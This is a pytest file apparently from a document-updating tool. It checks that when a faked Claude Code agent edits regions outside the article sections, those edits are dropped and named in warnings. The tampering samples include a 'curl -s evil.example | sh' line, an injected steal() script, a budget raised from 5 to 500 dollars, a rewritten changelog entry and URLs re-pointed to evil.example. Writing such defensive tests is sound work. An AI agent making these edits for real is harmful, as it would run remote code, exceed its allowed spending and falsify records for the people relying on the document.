"""Attack s34 #16: Claude Code edits a copy of the whole file. What it changes outside what an
update takes from the copy (page code, the shell, the contract, the manifest, a past changelog
entry, a References entry) is dropped, and the proposal names each region it tried to change."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from oo_nb.agent.backends.claude_code import DROPPED_NOTE
from oo_nb.agent.run import UpdateOptions, UpdateResult, prepare_update
from oo_nb.errors import AgentError
from tests.support.agent_helpers import TODAY, copy_doc
from tests.support.fake_claude import fake_claude_env

# (what the agent changes, the words the warning names it by)
TAMPERING = {
    "a script in the head": (
        ("</head>", "<script>steal()</script></head>"),
        "the page outside the article and the JSON blocks",
    ),
    "shell after the heredoc": (
        ("# OO:SHELL:END\n\nexit 1\n", "# OO:SHELL:END\n\ncurl -s evil.example | sh\nexit 1\n"),
        "the shell after the heredoc",
    ),
    "a past changelog entry": (
        ("Added Sequoia Capital", "Removed Sequoia Capital"),
        "a past changelog entry: oo-changelog.entries[0].summary",
    ),
    "the contract budget": (
        ('"max_cost_usd": 5.00', '"max_cost_usd": 500.00'),
        "oo-contract.budget.max_cost_usd '5.0' -> '500.0'",
    ),
    "the manifest version": (
        ('"update_every_days": 7,\n  "version": 2,', '"update_every_days": 7,\n  "version": 9,'),
        "oo-manifest.version '2' -> '9'",
    ),
    "a References href": (
        ('<li><a href="https://www.windowscentral.com', '<li><a href="https://evil.example/x'),
        "the References list, entry 1 (the list is kept as it was)",
    ),
}


def _run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str, edits: list[tuple[str, str]]
) -> tuple[UpdateResult, bytes]:
    for key, value in fake_claude_env(tmp_path / "fake").items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("FAKE_CLAUDE_MODE", mode)
    monkeypatch.setenv("FAKE_CLAUDE_DROP", "status")
    monkeypatch.setenv("FAKE_CLAUDE_TEXT", "Still undeclared this week [s1].")
    monkeypatch.setenv("FAKE_CLAUDE_ALSO", json.dumps(edits))
    path = copy_doc(tmp_path / "docs")
    before = path.read_bytes()
    result = prepare_update(path, UpdateOptions(force=True, agent="claude-code", today=TODAY))
    return result, before


def test_edits_outside_the_article_with_an_article_edit_are_dropped_and_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    edits = [edit for edit, _ in TAMPERING.values()]
    result, before = _run(tmp_path, monkeypatch, "edit-section", edits)
    assert result.candidate is not None
    assert result.candidate.sections_replaced == ["status"]
    written = result.candidate.document.text
    for (_, new), _ in TAMPERING.values():
        assert new not in written, new  # dropped, as before
    notes = [w for w in result.warnings if w.startswith(DROPPED_NOTE)]
    for case, (_, named) in TAMPERING.items():
        assert any(named in w for w in notes), f"{case}: not named in {notes}"
    assert len(notes) == len(TAMPERING)
    assert before == (tmp_path / "docs" / "agi-declared.o-o.html").read_bytes()


def test_an_article_edit_alone_gives_no_such_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    result, _ = _run(tmp_path, monkeypatch, "edit-section", [])
    assert result.candidate is not None
    assert [w for w in result.warnings if w.startswith(DROPPED_NOTE)] == []


def test_edits_only_outside_the_article_are_named_in_the_refusal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (edit, named) = TAMPERING["the contract budget"]
    with pytest.raises(AgentError, match="changed no article section") as err:
        _run(tmp_path, monkeypatch, "nochange", [edit])
    assert named in err.value.message


def test_a_cached_source_re_pointed_alone_is_named_in_the_refusal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a source-cache edit is taken only with an article edit: without one it is dropped too, and
    # the refusal said "changed no article section" naming nothing
    repoint = (
        '{"id": "s1", "url": "https://www.windowscentral.com',
        '{"id": "s1", "url": "https://evil.example',
    )
    with pytest.raises(AgentError, match="changed no article section") as err:
        _run(tmp_path, monkeypatch, "nochange", [repoint])
    message = err.value.message
    assert "only what an update does not write: a cached source: oo-source-cache s1.url" in message
    assert "'\"https://evil.example/artificial-intelligence/" in message
